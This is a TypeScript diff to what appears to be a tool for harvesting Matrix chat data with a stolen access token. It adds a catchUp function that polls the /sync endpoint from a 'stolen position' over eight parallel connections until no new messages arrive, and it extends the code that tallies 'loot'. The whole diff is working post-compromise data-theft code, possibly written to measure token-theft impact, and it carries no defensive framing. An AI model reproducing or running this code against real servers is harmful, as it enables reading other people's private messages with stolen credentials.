@@ -4,6 +4,8 @@ import { type Answer, connection, type Thief, type Watch } from './connection.ts
 import type { Loot } from './counting.ts'
 
 const CONNECTIONS = 64
+/** Connections of those that ask what came since the stolen position, all the same: they cannot get more than one would. */
+const CATCHING_UP = 8
 /** How often a position is asked for again once it was withheld. */
 const TRIES = 2
 /** Rooms that are asked in every way; all others are asked by /messages. */
@@ -29,6 +31,25 @@ interface SyncedRoom {
 interface Job {
   readonly path: string
   readonly tries: number
+}
+
+/** The stolen position, and what it covers (epoch milliseconds). */
+export interface Position {
+  readonly since: string
+  readonly coveredUntilMs: number
+}
+
+/** Asks what came since the stolen position, over and over, until nothing new comes. */
+export async function catchUp(thief: Thief, { since, coveredUntilMs }: Position, into: Attack): Promise<void> {
+  const path = `${V3}/sync?since=${encodeURIComponent(since)}&timeout=0&filter=${encodeURIComponent(BIG_TIMELINE)}`
+  await Promise.all(
+    Array.from({ length: CATCHING_UP }, async (_, index) => {
+      const ask = connection(thief, index, into.watch)
+      for (let tries = 0; tries < TRIES; tries++) {
+        if (note(into, await ask(path), path, coveredUntilMs) > 0) tries = -1
+      }
+    }),
+  )
 }
 
 /** Reads all that can be reached until there is nothing left to ask, nothing new came for `patienceMs`, or the token is refused. */
@@ -71,11 +92,11 @@ export async function harass(thief: Thief, rooms: readonly string[], into: Attac
   )
 }
 
-function note(into: Attack, answer: Answer, path: string): number {
+function note(into: Attack, answer: Answer, path: string, coveredUntilMs?: number): number {
   into.requests++
   into.answers.set(answer.status, (into.answers.get(answer.status) ?? 0) + 1)
   // A cut answer's bytes were read too, as far as they make sense.
-  return into.loot.take(answer.body, Date.now(), path.endsWith('/state'))
+  return into.loot.take(answer.body, Date.now(), path.endsWith('/state'), coveredUntilMs)
 }
 
 const V3 = '/_matrix/client/v3'
